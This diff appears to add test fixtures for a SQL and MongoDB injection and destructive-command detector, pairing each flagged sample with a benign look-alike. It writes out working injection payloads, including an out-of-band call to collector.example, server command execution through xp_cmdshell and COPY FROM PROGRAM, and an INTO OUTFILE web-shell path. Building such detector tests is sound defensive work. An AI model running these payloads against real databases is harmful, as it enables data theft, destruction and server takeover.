@@ -1,0 +1,237 @@
+"""Samples of the rules: what each must find, and a twin that it must leave alone."""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+
+@dataclass(frozen=True, slots=True, kw_only=True)
+class Sample:
+    """A text that a rule must find (`attack`) and one close to it that nothing may be found in."""
+
+    kind: str
+    rule: str
+    attack: str
+    twin: str
+    language: str = "sql"
+
+
+def _injection(rule: str, attack: str, twin: str, language: str = "sql") -> Sample:
+    return Sample(kind="sql.injection", rule=rule, attack=attack, twin=twin, language=language)
+
+
+def _destructive(rule: str, attack: str, twin: str, language: str = "sql") -> Sample:
+    return Sample(kind="sql.destructive", rule=rule, attack=attack, twin=twin, language=language)
+
+
+SAMPLES = (
+    # Injection into statements.
+    _injection(
+        "tautology",
+        "SELECT * FROM invoices WHERE number = '' OR '7'='7'",
+        "SELECT * FROM invoices WHERE 1=1 AND number = '7' OR number = '8'",
+    ),
+    _injection(
+        "tautology",
+        "SELECT id FROM invoices WHERE owner = 4 AND 3=3",
+        "SELECT id FROM invoices WHERE 3=3 AND owner = 4",
+    ),
+    _injection(
+        "tautology",
+        "UPDATE invoices SET note = '' OR 'q'='q' WHERE id = 4",
+        "UPDATE invoices SET note = 'this or that = q' WHERE id = 4",
+    ),
+    _injection(
+        "union_select",
+        "SELECT title, body FROM pages WHERE id = 9 UNION SELECT NULL, NULL",
+        "SELECT title, body FROM pages UNION ALL SELECT title, body FROM drafts",
+    ),
+    _injection(
+        "union_select",
+        "SELECT title, body FROM pages WHERE id = 9 UNION ALL SELECT 1,2,3",
+        "SELECT 'low' AS level, 1 AS rank UNION ALL SELECT 'high', 2",
+    ),
+    _injection(
+        "union_select",
+        "SELECT title FROM pages WHERE id = 9 UNION SELECT tables FROM information_schema.tables",
+        "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'",
+    ),
+    _injection(
+        "stacked",
+        "SELECT * FROM pages WHERE id = 3; WAITFOR DELAY '0:0:9'",
+        "SELECT * FROM pages WHERE id = 3; SELECT * FROM tags",
+    ),
+    _injection("comment_tail", "DROP TABLE users; --", "SELECT 1 -- note"),
+    _injection(
+        "comment_tail",
+        "SELECT * FROM staff WHERE login = 'kim'--' AND password = 'x'",
+        "SELECT * FROM staff WHERE login = 'kim--x' -- who was it\n AND active",
+    ),
+    _injection(
+        "time_probe",
+        "SELECT * FROM staff WHERE id = 3 AND SLEEP(4)",
+        "SELECT pg_sleep(1)",
+    ),
+    _injection(
+        "time_probe",
+        "SELECT * FROM staff WHERE id = (SELECT 8 FROM pg_sleep(9))",
+        "SELECT sleep_hours FROM staff WHERE id = 3",
+    ),
+    _injection(
+        "error_probe",
+        "SELECT * FROM staff WHERE id = 3 AND extractvalue(1, concat(0x7e, version()))",
+        "SELECT extractvalue(doc, '/a/b') FROM documents",
+    ),
+    _injection(
+        "error_probe",
+        "SELECT * FROM staff WHERE id = CAST((SELECT secret FROM vault LIMIT 1) AS int)",
+        "SELECT CAST(price AS int) FROM goods WHERE id = 3",
+    ),
+    _injection(
+        "out_of_band",
+        "SELECT name FROM goods WHERE id = utl_http.request('http://collector.example/')",
+        "SELECT name FROM http_requests WHERE id = 3",
+    ),
+    _injection(
+        "blind_probe",
+        "SELECT name FROM goods WHERE id = 3 AND ascii(substr((SELECT pin FROM vault),1,1)) > 64",
+        "SELECT name FROM goods WHERE substr(code, 1, 2) = 'AB'",
+    ),
+    _injection(
+        "inline_comment",
+        "SELECT name FROM goods WHERE id = 3 /*!50000UNION*/ /*!50000SELECT*/ pin FROM vault",
+        "/*!40101 SET NAMES utf8 */; SELECT /*+ INDEX(goods) */ name FROM goods",
+    ),
+    _injection(
+        "misplaced_clause",
+        "SELECT name FROM goods WHERE id = OR 5 > 4",
+        "SELECT name FROM goods WHERE id = ANY (ARRAY[5, 4])",
+    ),
+    # Bare values.
+    _injection("tautology", "x' OR '5'='5", "O'Neil and Sons", "auto"),
+    _injection("tautology", "12 or 4=4", "12 or 13 apples", "auto"),
+    _injection("tautology", "') or ('k'='k", "the 'red' or 'blue' option", "auto"),
+    _injection("comment_tail", "root'-- ", "rock 'n' roll -- the album", "auto"),
+    _injection(
+        "union_select", "-4 union all select 1,2,3", "the union of 4 sets, select one", "auto"
+    ),
+    _injection("stacked", "3; WAITFOR DELAY '0:0:4'", "3; wait for the delay of 4 s", "auto"),
+    _injection("stacked", "5; DROP TABLE orders", "5; drop the table off at four", "auto"),
+    _injection(
+        "concatenation", "'||(select pin from vault)||'", "'||' is how strings are joined", "auto"
+    ),
+    _injection("tautology", "%27%20or%203%3D3--%20", "100%25 cotton or 3%25 wool", "auto"),
+    _injection(
+        "tautology",
+        '{"name": "x\' or \'4\'=\'4", "limit": 3}',
+        '{"name": "Mo\'s or Jo\'s", "limit": 3}',
+        "auto",
+    ),
+    # Destruction.
+    _destructive(
+        "drop_table", "DROP TABLE IF EXISTS invoices CASCADE", "DROP INDEX invoices_by_day"
+    ),
+    _destructive("drop_database", "drop database shop", "SELECT 'drop database shop'"),
+    _destructive("drop_schema", "/* tidy */ DROP SCHEMA legacy CASCADE", "CREATE SCHEMA legacy"),
+    _destructive("truncate", "TRUNCATE invoices, lines", "SELECT truncate(price, 2) FROM lines"),
+    _destructive("delete_all", "DELETE FROM invoices", "DELETE FROM invoices WHERE id = 3"),
+    _destructive(
+        "delete_all",
+        "WITH gone AS (DELETE FROM invoices RETURNING *) SELECT count(*) FROM gone",
+        "WITH gone AS (DELETE FROM invoices WHERE id = 3 RETURNING *) SELECT count(*) FROM gone",
+    ),
+    _destructive(
+        "delete_all",
+        "DELETE FROM invoices WHERE 2 > 1 OR id = 3",
+        "EXPLAIN DELETE FROM invoices",
+    ),
+    _destructive(
+        "delete_all", "EXPLAIN ANALYZE DELETE FROM invoices", "SELECT * FROM deleted_from_invoices"
+    ),
+    _destructive(
+        "update_all",
+        "UPDATE invoices SET paid = true WHERE id IS NOT NULL",
+        "INSERT INTO invoices (id) VALUES (3) ON CONFLICT (id) DO UPDATE SET paid = true",
+    ),
+    _destructive(
+        "drop_column",
+        "ALTER TABLE invoices DROP COLUMN total",
+        "ALTER TABLE invoices ALTER COLUMN total DROP DEFAULT, ADD COLUMN tax int",
+    ),
+    _destructive("server_program", "COPY t FROM PROGRAM 'id'", "COPY t FROM STDIN"),
+    _destructive(
+        "server_program", "EXEC master..xp_cmdshell 'dir'", "SELECT 'xp_cmdshell' AS topic"
+    ),
+    _destructive(
+        "server_file",
+        "SELECT pg_read_file('/etc/hostname')",
+        "SELECT file_name FROM uploads WHERE pg_read = 3",
+    ),
+    _destructive(
+        "server_file",
+        "SELECT a FROM b INTO OUTFILE '/var/www/x.php'",
+        "INSERT INTO outfiles (name) VALUES ('x')",
+    ),
+    _destructive(
+        "grant_all",
+        "GRANT ALL PRIVILEGES ON DATABASE shop TO intern",
+        "GRANT SELECT ON invoices TO reporting",
+    ),
+    _destructive(
+        "grant_superuser", "ALTER ROLE kim WITH SUPERUSER", "ALTER ROLE kim SET search_path = shop"
+    ),
+    _destructive(
+        "alter_system", "ALTER SYSTEM SET log_min_messages = panic", "SHOW log_min_messages"
+    ),
+    _destructive("shutdown", "SHUTDOWN WITH NOWAIT", "SELECT shutdown FROM machines WHERE id = 3"),
+    _destructive(
+        "untrusted_language",
+        "CREATE FUNCTION f() RETURNS int AS $$ import os $$ LANGUAGE plpython3u",
+        "CREATE FUNCTION f() RETURNS int AS $$ SELECT 3 $$ LANGUAGE sql",
+    ),
+    _destructive(
+        "drop_table",
+        "DO $$ BEGIN EXECUTE 'DROP TABLE invoices'; END $$",
+        "DO $$ BEGIN RAISE NOTICE 'nothing to drop'; END $$",
+    ),
+    # MongoDB.
+    _destructive("mongo_drop", "db.invoices.drop()", "db.invoices.find({drop: 3})", "auto"),
+    _destructive("mongo_drop_database", "db.dropDatabase()", "db.getName()", "auto"),
+    _destructive(
+        "mongo_delete_all",
+        "db.invoices.deleteMany({})",
+        "db.invoices.deleteMany({_id: 3})",
+        "auto",
+    ),
+    _destructive(
+        "mongo_update_all",
+        "db.invoices.updateMany({}, {$set: {paid: true}})",
+        "db.invoices.updateMany({_id: 3}, {$set: {paid: true}})",
+        "auto",
+    ),
+    _destructive(
+        "mongo_code",
+        'db.invoices.find({"$where": "sleep(9)"})',
+        'db.invoices.find({"where": "here"})',
+        "auto",
+    ),
+)
+
+# Prose, source code and everyday statements in which nothing may be found, whatever the language.
+HARMLESS = (
+    "Drop table support for the legacy driver and update the docs.",
+    "Please select the best option from the list, or ask 1 of us.",
+    "She said 'yes' or 'no' -- and left; nobody knows; select wisely.",
+    "def where(a, b):\n    return a or b  # 1=1 is fine\n",
+    "if (a === '1' || b === '1') { return \"x\"; } // done",
+    "const q = `select * from users where id = ${id}`;",
+    "SELECT count(*) FROM orders o JOIN lines l ON l.order_id = o.id WHERE o.day > '2024-01-01';",
+    "INSERT INTO notes (body) VALUES ('DROP TABLE users; -- just a quote')",
+    "SELECT * FROM logs WHERE message LIKE '%union select%' ORDER BY id LIMIT 10",
+    "CREATE TABLE IF NOT EXISTS t (id int PRIMARY KEY, parent int REFERENCES t ON DELETE CASCADE)",
+    "BEGIN; UPDATE a SET b = 1 WHERE id = 2; COMMIT;",
+    "2024-05-01 12:00:03 ERROR could not connect; retrying in 5 s (attempt 3 of 5)",
+    "https://shop.example/search?q=salt+and+pepper&page=2&sort=price",
+    "user@example.com",
+    "50% off; buy 2 and get 1",
+)
